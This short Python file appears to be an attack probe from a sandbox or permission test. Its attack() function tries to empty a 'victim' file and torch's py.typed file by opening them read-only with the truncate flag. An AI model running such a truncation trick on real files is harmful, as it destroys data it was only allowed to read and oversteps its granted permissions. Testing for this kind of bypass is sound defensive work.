"""Empties a file that it may only read, or not even that, by the flag of an open."""
import os

import torch


def attack():
    for path in (TARGETS["victim"], torch.__file__.replace("__init__.py", "py.typed")):
        try:
            return os.open(path, os.O_RDONLY | os.O_TRUNC)
        except OSError as error:
            last = error
    raise last
